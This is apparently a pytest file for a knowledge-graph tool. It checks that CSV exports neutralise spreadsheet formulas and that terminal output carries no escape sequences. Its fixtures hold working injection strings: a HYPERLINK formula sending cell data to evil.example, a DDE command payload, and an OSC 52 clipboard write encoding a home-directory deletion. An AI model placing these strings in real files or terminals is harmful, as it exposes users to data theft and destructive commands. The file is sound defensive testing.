"""Nothing a document says runs where kg writes it: CSV cells a spreadsheet would evaluate are neutralised,
and the terminal gets no escape sequences."""

import csv
import io

import networkx as nx
from click.testing import CliRunner

from kg.build import write_outputs
from kg.cli import cli
from kg.export import generate_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # writes the reader's clipboard
OSC8 = "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"


def hostile() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    g.add_node("n1", label=FORMULA, type="PERSON", aliases=["+cmd|' /C calc'!A0", "ok"], titles=[], mentions=1,
               documents=1, doc_ids=["=1+2.txt"], merges=[])
    g.add_node("n2", label="Acme Corp", type="ORG", aliases=["Acme Corp"], titles=[], mentions=1, documents=1,
               doc_ids=["=1+2.txt"], merges=[])
    text = f"@SUM(1) Acme Corp {OSC52} hired {OSC8} someone."
    g.add_edge("n1", "n2", key="e1", kind="co-mention", weight=1,
               citations=[{"doc": "=1+2.txt", "start": 0, "end": len(text), "text": text}])
    return g


def cells(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table)))


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised():
    tables = generate_csv(hostile())
    for name, table in tables.items():
        for row in cells(table)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
    nodes = cells(tables["nodes.csv"])
    assert nodes[1][0] == "n1" and nodes[1][1] == "'" + FORMULA  # ids untouched, the text kept after the apostrophe
    citation = cells(tables["citations.csv"])[1]
    assert citation[:3] == ["n1", "n2", "CITATION"] and citation[5] == "'=1+2.txt" and citation[9].startswith("'@SUM")
    raw = cells(generate_csv(hostile(), formulas=True)["nodes.csv"])
    assert raw[1][1] == FORMULA  # on request, verbatim


def test_terminal_output_carries_no_escape_sequences(tmp_path):
    write_outputs(hostile(), tmp_path)
    runner = CliRunner()
    for args in (["evidence", "n1", "Acme Corp"], ["neighbors", "Acme Corp"], ["path", "n1", "Acme Corp"]):
        result = runner.invoke(cli, [*args, "--graph", str(tmp_path)])
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output, args
        assert "hired" in result.output or args[0] != "evidence"
    as_json = runner.invoke(cli, ["evidence", "n1", "Acme Corp", "--graph", str(tmp_path), "--json"])
    assert "\\u001b]52" in as_json.output  # JSON output unchanged: the escape is JSON-escaped, not lost
